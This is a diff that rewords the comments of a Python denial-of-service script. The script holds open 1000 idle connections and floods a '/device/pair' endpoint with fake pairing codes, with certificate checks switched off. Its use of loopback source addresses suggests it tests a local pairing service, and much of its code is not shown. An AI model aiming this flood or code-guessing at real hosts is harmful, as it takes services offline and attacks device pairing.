@@ -1,4 +1,4 @@
-"""Attacks a box over the network: silent connections, requests without end. Arguments: host, port, seconds."""
+"""Attacks a box over the network with silent connections and endless requests. Arguments: host, port, seconds."""
 
 import contextlib
 import socket
@@ -7,12 +7,12 @@ import sys
 import threading
 import time
 
-SILENT = 1000  # connections that are opened and say nothing, again and again
+SILENT = 1000  # connections that are opened again and again and send nothing
 ASKING = 4  # threads that ask as fast as they are answered
 
 
 def main(host: str, port: int, seconds: float) -> None:
-    """Attack until the time is over."""
+    """Attack until the time is up."""
     ends = time.monotonic() + seconds
     tls = ssl.create_default_context()
     tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
@@ -36,7 +36,7 @@ def _keep_silent(host: str, port: int, ends: float) -> None:
 
 
 def _ask(host: str, port: int, ends: float, tls: ssl.SSLContext, number: int) -> None:
-    """Each from an address of its own, where the machine has them all (127.0.0.0/8)."""
+    """Each from a separate address if the machine has them (127.0.0.0/8)."""
     source = (f"127.0.0.{10 + number}", 0) if host.startswith("127.") else None
     head = f"POST /device/pair HTTP/1.1\r\nHost: {host}:{port}\r\nOrigin: https://{host}:{port}\r\n"
     body = b'{"code": "BBBBBBBB", "signature": "x"}'
